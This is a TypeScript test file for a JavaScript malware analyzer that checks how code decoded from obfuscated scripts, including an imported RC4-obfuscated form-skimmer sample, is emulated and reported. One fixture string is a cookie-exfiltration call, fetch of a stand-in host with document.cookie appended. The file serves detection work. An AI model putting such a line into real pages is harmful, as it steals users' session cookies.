import assert from 'node:assert/strict';
import { looksObfuscated, openLayers, type Opened } from '../../analyzer/deobfuscate/index.ts';
import { createEmulator } from '../../analyzer/emulator/index.ts';
import type { HiddenCode } from '../../analyzer/examination.ts';
import { examineDeeply } from '../../analyzer/examine.ts';
import { createAnalyzer } from '../../analyzer/index.ts';
import { asParts, openedCodeOf, requestFor } from '../../analyzer/opened-code.ts';
import { parseScript } from '../../analyzer/parse/index.ts';
import { collectFacts } from '../../analyzer/static/facts.ts';
import { obfuscate, settings, skimmer } from './deobfuscate/samples.ts';

const hidden: HiddenCode = { text: 'eval("…")', signs: ['decoded-code'], places: null };
const opened = (over: Partial<Opened> = {}): Opened => ({
  outcome: 'opened',
  signs: ['decoded-code'],
  text: 'fetch("https://a.example/" + document.cookie)',
  layers: [{ kind: 'code', decoded: 1 }],
  decoded: 1,
  operations: 0,
  places: null,
  ms: 1,
  found: null,
  ...over,
});

describe('openedCodeOf', () => {
  it('takes what came out of a script', () => {
    const codes = openedCodeOf([{}, {}], [undefined, hidden], [null, opened()]);
    assert.deepEqual(
      codes.map(({ of }) => of),
      [1],
    );
  });

  it('leaves a part alone whose whole opened', () => {
    const codes = openedCodeOf([{}, { partOf: 0 }], [hidden, hidden], [opened(), opened()]);
    assert.deepEqual(
      codes.map(({ of }) => of),
      [0],
    );
  });

  it('takes a part whose whole stayed closed, for the whole', () => {
    const closed = opened({ outcome: 'failed', text: null, layers: [] });
    const codes = openedCodeOf(
      [{}, {}, { partOf: 1 }],
      [undefined, hidden, hidden],
      [null, closed, opened()],
    );
    assert.deepEqual(
      codes.map(({ of }) => of),
      [1],
    );
  });

  it('leaves a script alone of which a few calls were worked out', () => {
    const few = opened({ layers: [{ kind: 'values', decoded: 3 }] });
    assert.deepEqual(openedCodeOf([{}], [hidden], [few]), []);
  });
});

describe('opened code', () => {
  const text = obfuscate(skimmer, settings['a list in RC4, shuffled and rotated']!);

  it('is run, and what it does is placed in the script it came out of', async () => {
    const signs = looksObfuscated(collectFacts(text, parseScript(text)));
    const [code] = openedCodeOf([{}], [{ text, signs, places: null }], [await openLayers(text, signs)]);
    const emulator = createEmulator({ workers: 1 });
    const examined = await examineDeeply(requestFor('a.js', code!), (script) => emulator.emulate(script));
    await emulator.close();
    const [part] = asParts(code!, examined.scripts);
    assert.deepEqual([part!.partOf, part!.isOpened], [0, true]);
    const sent = part!.evidence.find(({ rule }) => rule === 'typed-data-sent')!;
    assert.match(sent.message, /^In decoded code: .* stats\.invalid.* \(emulated\)\.$/);
    // Nothing of the opened text but that call has a place so far behind in the script.
    assert.ok(sent.location.column > text.indexOf('fetch(') - 10);
  });

  it('says nothing again that the script as it is has said', async () => {
    const analyzer = await createAnalyzer({ workers: 1 });
    const { analysis } = await analyzer.analyze({ path: 'a.js', bytes: Buffer.from(text), media: 'js' });
    await analyzer.close();
    const said = analysis.evidence.map(({ rule, host, field }) => [rule, host, field].join(' '));
    assert.ok(said.some((one) => one.startsWith('typed-data-sent stats.invalid')));
    assert.deepEqual(said, [...new Set(said)]);
  });
});
